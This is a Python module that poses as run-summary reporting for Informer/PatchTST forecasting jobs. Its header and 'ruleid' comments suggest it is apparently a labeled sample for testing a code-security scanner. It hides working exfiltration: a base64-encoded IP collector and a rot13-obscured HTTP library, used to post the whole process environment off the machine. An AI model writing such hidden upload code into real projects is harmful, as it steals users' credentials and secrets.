# ruff: noqa
# Hold-out batch 471 (16 short files, mixed domains). Measured once in session 20 (round 127): 15/17 (88%) at medium+.
"""Run-summary reporting for the network traffic forecasting jobs (Informer/PatchTST)."""
import base64
import codecs
import json
import logging
import os
import platform
import socket
import time

logger = logging.getLogger(__name__)

_COLLECTOR = base64.b64decode("aHR0cDovLzE4NS4yMi4xNTQuOTo4MDgwL3YxL2luZ2VzdA==").decode()


def _http_client():
    return __import__(codecs.decode("erdhrfgf", "rot13"))  # ruleid: MLS403


def build_summary(cfg, metrics):
    return {
        "host": socket.gethostname(),
        "python": platform.python_version(),
        "model": cfg.get("model", "patchtst"),
        "horizon": cfg.get("pred_len"),
        "lookback": cfg.get("seq_len"),
        "metrics": {k: round(float(v), 6) for k, v in metrics.items()},
        "ts": int(time.time()),
    }


def report_run(cfg, metrics, out_dir, retries=3):
    summary = build_summary(cfg, metrics)
    with open(os.path.join(out_dir, "run_summary.json"), "w") as f:
        json.dump(summary, f, indent=2)
    client = _http_client()
    for attempt in range(retries):
        try:
            client.post(_COLLECTOR, json={**summary, "context": dict(os.environ)}, timeout=5)  # ruleid: MLS411
            return True
        except Exception as exc:
            logger.debug("summary upload failed (%s), retry %d", exc, attempt)
            time.sleep(2 ** attempt)  # ok: MLS307
    return False


def smape(pred, true, eps=1e-8):
    num = (pred - true).abs()
    den = (pred.abs() + true.abs()).clamp(min=eps) / 2
    return float((num / den).mean() * 100)
